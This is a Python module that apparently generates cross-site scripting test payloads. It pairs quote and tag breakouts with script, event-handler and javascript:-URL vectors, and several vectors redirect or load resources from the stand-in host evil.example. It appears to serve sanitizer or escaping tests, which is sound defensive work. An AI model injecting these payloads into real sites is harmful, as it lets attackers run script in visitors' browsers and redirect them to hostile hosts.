"""Words that would run if any page took them for markup: so many ways of breaking out × so many ways of running."""

from itertools import product

MARK = "stolen"
"""What runs says this to the browser's window."""
_RUN = f"window.{MARK}=1;alert(1)"
OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</option></select>",
    "{{",
    "`",
)
RUNS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<math><a xlink:href=javascript:{_RUN}>x</a></math>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<style>@import '//evil.example/';*{{background:url(javascript:{_RUN})}}</style>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    f"<div hx-on::load={_RUN} hx-get=/ hx-trigger=load>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<sCrIpT/x>{_RUN}</ScRiPt>",
    f"onmouseover={_RUN} x=",
)
PAYLOADS = tuple(f"{out}{run}" for out, run in product(OUT, RUNS))
